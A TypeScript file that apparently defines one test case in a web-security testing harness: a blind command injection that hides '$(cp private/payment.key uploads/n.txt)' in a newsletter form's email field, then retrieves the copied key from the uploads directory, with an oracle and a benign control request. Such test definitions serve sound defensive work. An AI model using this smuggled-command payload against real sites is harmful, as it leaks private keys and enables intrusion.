import { defineAttack } from '../../attack/attack.ts'
import type { Attack } from '../../attack/attack.ts'

/** Copies the key file to the uploads by a substitution nobody sees. */
export const commandNewsletterBlind: Attack = defineAttack({
  id: 'command-newsletter-blind',
  class: 'command-injection',
  title: 'Copies the key file to the uploads by a substitution nobody sees',
  cwe: 78,
  capec: 88,
  technique: 'T1059.004',
  preconditions: [],

  steps: async ({ visitor }) => {
    await visitor.form('/newsletter', { email: '$(cp private/payment.key uploads/n.txt)@example.org' })
    return visitor.get('/uploads/n.txt')
  },
  oracle: (answer, { witness }) => answer.text.includes(witness.loot.fileKey),
  twin: ({ visitor }) => visitor.form('/newsletter', { email: 'ada+trail@example.org' }),
})
